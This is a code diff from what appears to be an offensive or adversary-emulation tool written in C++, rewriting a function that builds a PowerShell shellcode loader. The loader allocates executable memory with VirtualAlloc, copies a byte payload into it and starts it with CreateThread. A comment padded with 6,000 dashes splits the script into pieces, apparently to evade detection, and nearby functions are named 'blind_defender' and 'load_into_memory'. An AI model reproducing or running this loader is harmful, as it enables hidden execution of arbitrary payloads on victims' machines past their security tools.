@@ -103,17 +103,18 @@ Process blind_defender(Host& host, const Process& shell) {
 /// in the first and in the last one.
 std::vector<std::string> loader_script() {
     return {
-        "$k = @\"\r\n[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a, "
-        "uint s, uint t, uint p);\r\n",
-        "[DllImport(\"kernel32\")] public static extern bool CloseHandle(IntPtr h);\r\n"
-        "# " +
-            std::string(6000, '-') + "\r\n",
-        "[DllImport(\"kernel32\")] public static extern IntPtr CreateThread(IntPtr a, uint s, "
-        "IntPtr f, IntPtr p, uint c, IntPtr i);\r\n\"@\r\n"
-        "$w = Add-Type -MemberDefinition $k -Name w -Namespace n -PassThru\r\n"
-        "$m = $w::VirtualAlloc(0, $b.Length, 0x3000, 0x40)\r\n"
-        "[Runtime.InteropServices.Marshal]::Copy($b, 0, $m, $b.Length)\r\n"
-        "$w::CreateThread(0, 0, $m, 0, 0, 0)\r\n"};
+        "$d = '[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint "
+        "s, "
+        "uint t, uint p);'\r\n"
+        "$w = Add-Type -MemberDefinition $d -Name w -Namespace n -PassThru\r\n"
+        "$m = $w::VirtualAlloc(0, $b.Length, 0x3000, 0x40)\r\n",
+        "# " + std::string(6000, '-') +
+            "\r\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $m, $b.Length)\r\n",
+        "$d = '[DllImport(\"kernel32\")] public static extern IntPtr CreateThread(IntPtr a, uint "
+        "s, "
+        "IntPtr f, IntPtr p, uint c, IntPtr i);'\r\n"
+        "$t = Add-Type -MemberDefinition $d -Name t -Namespace n -PassThru\r\n"
+        "$t::CreateThread(0, 0, $m, 0, 0, 0)\r\n"};
 }
 
 void load_into_memory(Host& host, const Process& shell) {
